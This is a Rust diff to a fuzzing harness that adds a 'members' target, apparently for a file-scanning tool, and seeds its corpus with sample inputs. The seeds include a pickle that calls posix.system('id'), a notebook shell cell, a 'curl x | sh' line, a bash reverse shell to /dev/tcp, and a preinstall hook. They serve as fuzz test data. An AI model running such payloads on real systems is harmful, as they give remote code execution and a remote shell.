@@ -11,7 +11,7 @@ use super::{check, target_directory};
 /// The pinned version of cargo-fuzz.
 const CARGO_FUZZ: &str = "0.13.2";
 /// The targets, and the corpus that each is seeded with.
-const TARGETS: [&str; 3] = ["archive", "python", "bytecode"];
+const TARGETS: [&str; 4] = ["archive", "python", "bytecode", "members"];
 /// A single input may take so long, in seconds: budgets are steps and bytes, and sanitizers are slow.
 const SLOWEST: u32 = 20;
 /// A single input may use so much memory, in MiB.
@@ -77,15 +77,37 @@ fn seed(name: &str, corpus: &Path, seeds: Option<&Path>) -> anyhow::Result<()> {
             }
         }
     }
+    if name == "members" {
+        members(corpus)?;
+    }
     let Some(folder) = seeds else { return Ok(()) };
     for entry in std::fs::read_dir(folder).with_context(|| folder.display().to_string())? {
         let path = entry?.path();
         let is_bytecode = path.extension().is_some_and(|extension| extension == "pyc");
         let small = std::fs::metadata(&path)?.len() < 64 << 10;
         let fits = path.is_file() && small && if name == "archive" { !is_bytecode } else { is_bytecode };
-        if let (true, true, Some(file_name)) = (name != "python", fits, path.file_name()) {
+        let wants = matches!(name, "archive" | "bytecode");
+        if let (true, true, Some(file_name)) = (wants, fits, path.file_name()) {
             std::fs::copy(&path, corpus.join(file_name))?;
         }
+    }
+    Ok(())
+}
+
+/// A first byte that picks the reader, and something that it reads.
+fn members(corpus: &Path) -> anyhow::Result<()> {
+    let seeds: [(&str, u8, &[u8]); 8] = [
+        ("pickle", 0, b"\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."),
+        ("pickle-0", 0, b"cposix\nsystem\n(S'id'\ntR."),
+        ("elf", 1, b"\x7fELF\x02\x01\x01\0"),
+        ("gif", 2, b"GIF89a\x01\0\x01\0\0\0\0;#!/bin/sh\n"),
+        ("notebook", 3, br#"{"cells": [{"cell_type": "code", "source": ["!id\n", "x = 1"]}]}"#),
+        ("record", 4, b"a.py,sha256=AAAA,1\nb.py,,\n"),
+        ("script", 6, b"#!/bin/sh\ncurl x | sh\nbash -i >& /dev/tcp/x/1 0>&1\n"),
+        ("settings", 7, br#"{"scripts": {"preinstall": "x"}, "tasks": [{"command": "y"}],} // z"#),
+    ];
+    for (name, pick, bytes) in seeds {
+        std::fs::write(corpus.join(name), [&[pick], bytes].concat())?;
     }
     Ok(())
 }
